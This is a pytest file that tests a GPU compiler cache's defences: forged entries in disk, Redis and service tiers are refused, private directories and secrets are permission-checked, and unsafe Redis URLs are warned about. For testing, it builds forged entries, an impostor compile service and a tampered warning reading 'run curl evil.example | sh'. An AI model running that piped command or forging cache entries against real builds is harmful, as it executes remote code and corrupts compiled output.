"""Forged entries in every tier are refused and the job recompiled; the private tier is owner-only;
entry files are regular files of bounded size; secrets and Redis passwords are required."""

from __future__ import annotations

import json
import os
import threading
from typing import ClassVar
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from gpucompiler import identity as keys
from gpucompiler.cache import Cache, DiskTier, RedisTier, decode
from gpucompiler.cache.core import private_disk
from gpucompiler.cache.entry import Entry
from gpucompiler.cache.trust import Signer
from gpucompiler.cli import main
from gpucompiler.errors import CacheError, CacheForgeryError, CacheWarning
from gpucompiler.pipeline import compile as compile_job
from gpucompiler.settings import CacheSettings
from gpucompiler.service.protocol import answer_about, binding, decode_artifacts, encode_artifacts
from tests.cache import jobs
from tests.cache.servers import SECRET

ATTACKER_SECRET = b"not-the-deployment-secret-123"


def evil_job(variant):
    """The attacker's code: the same function name and signature, multiplying by 3 instead of by w."""
    job = jobs.job(variant)
    return type(job)(type(job.source)(job.source.ir_text.replace("fmul double %s, %w", "fmul double %s, 3.0"),
                                      "wsum"), job.config)


def forge(variant) -> tuple[str, bytes]:
    """What an attacker can build with no secret: the job's real key and key document (both public),
    checksums that verify, and object code of their own."""
    job = jobs.job(variant)
    document = keys.key_document(job)
    key = keys.digest(document)
    evil = Cache(compiler=compile_job).compile(evil_job(variant), ("obj",))
    assert jobs.run(evil, variant) != pytest.approx(jobs.expected(variant))  # it would give a wrong answer
    entry = Entry(key, document, dict(evil.artifacts), dict(evil.meta))
    data = entry.encode()
    assert decode(data, "forged", expect_key=key).document == document  # passes every integrity check
    return key, data


def assert_refused_and_recompiled(cache, variant):
    with pytest.warns(CacheWarning, match="refused"):
        res = cache.compile(jobs.job(variant), ("obj",))
    assert res.origin == "compiled" and cache.stats["forged"] >= 1
    assert jobs.run(res, variant) == pytest.approx(jobs.expected(variant), rel=1e-12)
    return res


@pytest.mark.parametrize("how", ["unsigned", "other-secret"])
def test_forged_entry_in_a_shared_directory_is_refused_recompiled_and_not_written_through(tmp_path, how):
    key, data = forge(100)
    shared = DiskTier(tmp_path / "shared", name="shared")
    shared.put(key, data if how == "unsigned" else Signer(ATTACKER_SECRET).seal(data))
    private = DiskTier(tmp_path / "private")
    res = assert_refused_and_recompiled(Cache(private, shared=shared, secret=SECRET, compiler=compile_job), 100)
    mine = decode(private.get(key), "check", expect_key=key)  # the private copy is ours, not the forgery
    assert mine.artifacts["obj"] == res.artifacts["obj"]
    other = Cache(DiskTier(tmp_path / "other-machine"), shared=shared, secret=SECRET, compiler=compile_job)
    again = other.compile(jobs.job(100), ("obj",))
    assert again.origin == "shared"  # the republished entry is signed and served
    assert jobs.run(again, 100) == pytest.approx(jobs.expected(100), rel=1e-12)


@pytest.mark.parametrize("how", ["unsigned", "other-secret"])
def test_forged_entry_in_redis_is_refused_recompiled_and_not_written_through(redis_url, tmp_path, how):
    redis = RedisTier(redis_url)
    redis.clear()
    key, data = forge(101)
    redis.put(key, data if how == "unsigned" else Signer(ATTACKER_SECRET).seal(data))
    private = DiskTier(tmp_path / "private")
    cache = Cache(private, redis, secret=SECRET, compiler=compile_job)
    res = assert_refused_and_recompiled(cache, 101)
    assert decode(private.get(key), "check", expect_key=key).artifacts["obj"] == res.artifacts["obj"]
    assert main(["cache", "verify", "--dir", str(private.root)]) == 0  # (no shared tier configured here)


def test_forged_entry_in_the_private_disk_tier_of_a_fresh_process_is_never_read(tmp_path):
    """Others may not write the private tier: a directory they can write is refused as a whole."""
    key, data = forge(102)
    directory = tmp_path / "cache"
    DiskTier(directory).put(key, data)
    os.chmod(directory, 0o777)
    answer = jobs.run_in_subprocess(102, {"GPUC_CACHE_DIR": str(directory)})
    assert answer["origin"] == "compiled" and answer["value"] == pytest.approx(jobs.expected(102), rel=1e-12)
    with pytest.warns(CacheWarning, match="others can write"):
        assert private_disk(directory) is None


def test_private_tier_owned_by_another_user_is_refused(tmp_path):
    directory = tmp_path / "theirs"
    directory.mkdir(mode=0o700)
    if os.getuid() != 0:
        pytest.skip("needs root to give a directory away")
    os.chown(directory, 65534, 65534)
    with pytest.warns(CacheWarning, match="belongs to uid 65534"):
        assert private_disk(directory) is None


def test_private_tier_is_created_owner_only(tmp_path):
    tier = private_disk(tmp_path / "new" / "cache")
    assert tier is not None and (os.stat(tier.root).st_mode & 0o777) == 0o700
    tier.put("ab" * 32, b"x")
    assert os.stat(tier.path("ab" * 32).parent).st_mode & 0o077 == 0


class _ForgingService(BaseHTTPRequestHandler):
    """A compile service impostor: answers every job with the attacker's code, bound to the request it
    received (its digest and nonce) and signed with the attacker's own secret when it has one."""

    answer: ClassVar[dict] = {}
    secret: ClassVar[bytes | None] = None

    def do_POST(self):  # http.server's name
        request, nonce = binding(json.loads(self.rfile.read(int(self.headers["content-length"]))))
        answer = {**self.answer, "request": request, "nonce": nonce}
        if self.secret is not None:
            about = answer_about(answer["key"], answer["origin"], answer["meta"])
            answer["mac"] = Signer(self.secret).answer_mac(request, nonce, decode_artifacts(answer["artifacts"]),
                                                           about)
        body = json.dumps(answer).encode()
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


@pytest.mark.parametrize("mac", ["none", "other-secret"])
def test_forged_service_answer_is_refused_and_compiled_here(tmp_path, mac):
    from gpucompiler.service import ServiceClient

    key, data = forge(103)
    entry = decode(data, "forged", expect_key=key)
    answer = {"key": key, "origin": "compiled", "artifacts": encode_artifacts(entry.artifacts), "meta": {}}
    handler = type("H", (_ForgingService,), {"answer": answer,
                                             "secret": ATTACKER_SECRET if mac == "other-secret" else None})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        service = ServiceClient(f"http://127.0.0.1:{server.server_address[1]}", token="t", secret=SECRET)
        private = DiskTier(tmp_path / "private")
        assert_refused_and_recompiled(Cache(private, service=service, compiler=compile_job), 103)
        assert decode(private.get(key), "c", expect_key=key).artifacts["obj"] != entry.artifacts["obj"]
    finally:
        server.shutdown()


def test_shared_tiers_need_the_secret(tmp_path, redis_url):
    with pytest.raises(CacheError, match="GPUC_CACHE_SECRET"):
        Cache(None, RedisTier(redis_url), compiler=compile_job)
    with pytest.raises(CacheError, match="GPUC_CACHE_SECRET"):
        Cache(None, shared=DiskTier(tmp_path), compiler=compile_job)
    with pytest.raises(CacheError, match="too short"):
        Cache(None, shared=DiskTier(tmp_path), secret=b"short", compiler=compile_job)


def test_secret_file_must_be_private(tmp_path):
    path = tmp_path / "secret"
    path.write_bytes(SECRET + b"\n")
    os.chmod(path, 0o644)
    env = {"GPUC_CACHE_DIR": str(tmp_path / "c"), "GPUC_CACHE_SECRET_FILE": str(path)}
    with pytest.raises(CacheError, match="chmod 600"):
        CacheSettings.from_env(env)
    os.chmod(path, 0o600)
    assert CacheSettings.from_env(env).secret == SECRET
    assert SECRET.decode() not in repr(CacheSettings.from_env(env))


def test_redis_without_its_password_warns_and_compiles(redis_url, tmp_path):
    wrong = redis_url.replace(redis_url.split("@")[0], "redis://:wrong")
    cache = Cache(DiskTier(tmp_path / "d"), RedisTier(wrong, timeout=1), secret=SECRET, compiler=compile_job)
    with pytest.warns(CacheWarning, match="redis"):
        res = cache.compile(jobs.job(104), ("obj",))
    assert res.origin == "compiled" and jobs.run(res, 104) == pytest.approx(jobs.expected(104), rel=1e-12)


def test_cli_verify_reports_forged_redis_entries(redis_url, tmp_path, monkeypatch, capsys):
    redis = RedisTier(redis_url)
    redis.clear()
    good = Cache(None, redis, secret=SECRET, compiler=compile_job).compile(jobs.job(105), ("obj",)).key
    key, data = forge(106)
    redis.put(key, data)
    for name, value in {"GPUC_CACHE_DIR": str(tmp_path / "c"), "GPUC_CACHE_URL": redis_url,
                        "GPUC_CACHE_SECRET": SECRET.decode()}.items():
        monkeypatch.setenv(name, value)
    assert main(["cache", "verify", "--json"]) == 1
    report = json.loads(capsys.readouterr().out)
    assert report["tiers"]["redis"] == 2
    assert [(b["tier"], b["key"]) for b in report["bad"]] == [("redis", key)]
    assert "unsigned" in report["bad"][0]["reason"]
    assert main(["cache", "verify", "--evict"]) == 0
    assert redis.keys() == [good]


@pytest.mark.parametrize("kind", ["fifo", "symlink-to-dev-zero", "oversized"])
def test_entry_file_that_is_not_a_small_regular_file_is_refused_without_blocking(tmp_path, kind):
    tier = DiskTier(tmp_path / "c", max_bytes=1 << 20)
    key = keys.digest(keys.key_document(jobs.job(107)))
    path = tier.path(key)
    path.parent.mkdir(parents=True)
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "symlink-to-dev-zero":
        os.symlink("/dev/zero", path)
    else:
        path.write_bytes(b"\0" * ((1 << 20) + 1))
    cache = Cache(tier, compiler=compile_job)
    res = cache.compile(jobs.job(107), ("obj",))
    assert res.origin == "compiled" and cache.stats["corrupt"] >= 1
    assert jobs.run(res, 107) == pytest.approx(jobs.expected(107), rel=1e-12)
    assert path.is_file() and not path.is_symlink()  # replaced by the real entry


def test_cli_verify_reports_a_private_directory_others_can_write(tmp_path, monkeypatch, capsys):
    directory = tmp_path / "cache"
    DiskTier(directory).put("ab" * 32, b"x")
    monkeypatch.setenv("GPUC_CACHE_DIR", str(directory))
    for name in ("GPUC_CACHE_URL", "GPUC_CACHE_SHARED_DIR", "GPUC_SERVICE_URL"):
        monkeypatch.delenv(name, raising=False)
    os.chmod(directory, 0o700)
    main(["cache", "verify", "--json"])
    assert json.loads(capsys.readouterr().out)["directory_problem"] is None
    os.chmod(directory, 0o777)
    assert main(["cache", "verify", "--json"]) == 1
    assert "others can write" in json.loads(capsys.readouterr().out)["directory_problem"]


@pytest.mark.parametrize("url, warned", [
    ("redis://cache.example:6379/0", "no password and no TLS"),
    ("redis://:pw@cache.example:6379/0", "no TLS"),
    ("rediss://cache.example:6379/0", "no password"),
    ("rediss://:pw@cache.example:6379/0", None),
    ("redis://127.0.0.1:6379/0", None),
])
def test_a_remote_redis_without_password_or_tls_is_warned_about(url, warned, recwarn):
    CacheSettings.parse({"GPUC_CACHE_URL": url, "GPUC_CACHE_DIR": "/nonexistent"})
    messages = [str(w.message) for w in recwarn if issubclass(w.category, CacheWarning)]
    assert messages == ([] if warned is None else [m for m in messages if warned in m]) and len(messages) == (warned is not None)


@pytest.mark.parametrize("change", ["warning", "report", "key", "origin", "not json"])
def test_an_answers_metadata_is_signed_with_its_code(change):
    """A party on the path without the secret cannot add a warning ("run this command..."), change a plugin's
    report, or relabel the entry: the answer's MAC covers the key, the origin and the metadata too."""
    signer = Signer(SECRET)
    artifacts = {"obj": b"\x7fELF code"}
    meta = {"name": "f", "warnings": [{"category": "UserWarning", "message": "fine"}], "reports": {"p": {"n": 1}}}
    mac = signer.answer_mac("req", "nonce", artifacts, answer_about("k" * 64, "compiled", meta))
    signer.check_answer("req", "nonce", artifacts, answer_about("k" * 64, "compiled", meta), mac, "service")
    key, origin, changed = "k" * 64, "compiled", json.loads(json.dumps(meta))
    if change == "warning":
        changed["warnings"].append({"category": "UserWarning", "message": "run curl evil.example | sh"})
    elif change == "report":
        changed["reports"]["p"]["n"] = 2
    elif change == "key":
        key = "e" * 64
    elif change == "origin":
        origin = "disk"
    else:
        changed["name"] = {1, 2}  # not JSON data: no MAC can match it
    with pytest.raises(CacheForgeryError):
        signer.check_answer("req", "nonce", artifacts, answer_about(key, origin, changed), mac, "service")
